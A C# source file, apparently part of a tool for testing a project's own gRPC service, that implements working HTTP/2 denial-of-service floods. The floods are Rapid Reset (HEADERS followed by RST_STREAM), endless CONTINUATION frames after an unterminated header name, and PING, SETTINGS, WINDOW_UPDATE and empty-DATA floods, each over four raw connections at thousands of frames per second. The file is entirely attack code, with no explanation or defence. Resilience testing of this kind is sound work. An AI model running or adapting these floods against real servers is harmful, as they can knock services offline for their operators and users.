using KpiPlatform.Attack.Http2;

namespace KpiPlatform.Attack.Attacks;

/// <summary>More frames than anybody needs.</summary>
internal static class Floods
{
    private const string Path = "/kpi.v1.CustomerService/GetCustomer";
    private const int Connections = 4;
    private const int PerSecond = 4_000;

    public static Task RapidResetAsync(Target target, CancellationToken cancellationToken) => FloodAsync(
        target, PerSecond / 2, connection =>
        {
            var stream = connection.NextStream();
            return [.. Frame.Of(Frame.Headers, Frame.EndHeaders, stream, HeaderBlock.Call(Path, target.Key).ToArray()), .. Frame.OfReset(stream)];
        }, cancellationToken);

    public static Task ContinuationAsync(Target target, CancellationToken cancellationToken) => ContinueAsync(target, [0x00], cancellationToken);

    public static Task EmptyContinuationAsync(Target target, CancellationToken cancellationToken) => ContinueAsync(target, [], cancellationToken);

    public static Task PingAsync(Target target, CancellationToken cancellationToken) =>
        FloodAsync(target, PerSecond, _ => Frame.Of(Frame.Ping, 0, 0, new byte[8]), cancellationToken);

    public static Task SettingsAsync(Target target, CancellationToken cancellationToken) =>
        FloodAsync(target, PerSecond, connection => Frame.OfSettings(((ushort)4, (uint)(60_000 + (connection.NextStream() % 1_000)))), cancellationToken);

    public static Task WindowUpdateAsync(Target target, CancellationToken cancellationToken) =>
        FloodAsync(target, PerSecond, _ => Frame.OfWindow(0, 1), cancellationToken);

    public static Task EmptyDataAsync(Target target, CancellationToken cancellationToken) => target.RepeatAsync(
        Connections,
        async (number, stopping) =>
        {
            using var connection = await RawConnection.OpenAsync(target.Address, Target.From(number), stopping);
            var stream = await connection.CallAsync(HeaderBlock.Call("/kpi.v1.InteractionService/RecordInteractions", target.Key), stopping);
            var pace = new Pace(PerSecond);
            while (!connection.Closed.IsCompleted && connection.Ended == 0)
            {
                await connection.SendAsync(stream, ReadOnlyMemory<byte>.Empty, isLast: false, stopping);
                target.Count();
                await pace.StepAsync(stopping);
            }

            target.CountClosed();
        },
        cancellationToken);

    private static Task FloodAsync(Target target, int perSecond, Func<RawConnection, byte[]> next, CancellationToken cancellationToken) => target.RepeatAsync(
        Connections,
        async (number, stopping) =>
        {
            using var connection = await RawConnection.OpenAsync(target.Address, Target.From(number), stopping);
            var pace = new Pace(perSecond);
            while (!connection.Closed.IsCompleted)
            {
                await connection.WriteAsync(next(connection), stopping);
                target.Count();
                await pace.StepAsync(stopping);
            }

            target.CountClosed();
        },
        cancellationToken);

    private static Task ContinueAsync(Target target, byte[] part, CancellationToken cancellationToken) => target.RepeatAsync(
        Connections,
        async (number, stopping) =>
        {
            using var connection = await RawConnection.OpenAsync(target.Address, Target.From(number), stopping);
            var stream = connection.NextStream();

            // A literal header whose name has begun: what follows belongs to it.
            await connection.WriteAsync(Frame.Of(Frame.Headers, 0, stream, HeaderBlock.Call(Path, target.Key).ToArray()), stopping);
            await connection.WriteAsync(Frame.Of(Frame.Continuation, 0, stream, [0x00, 0x7F, 0xFF, 0xFF, 0x03]), stopping);
            var frame = Frame.Of(Frame.Continuation, 0, stream, part);
            var pace = new Pace(PerSecond);
            while (!connection.Closed.IsCompleted)
            {
                await connection.WriteAsync(frame, stopping);
                target.Count();
                await pace.StepAsync(stopping);
            }

            target.CountClosed();
        },
        cancellationToken);
}
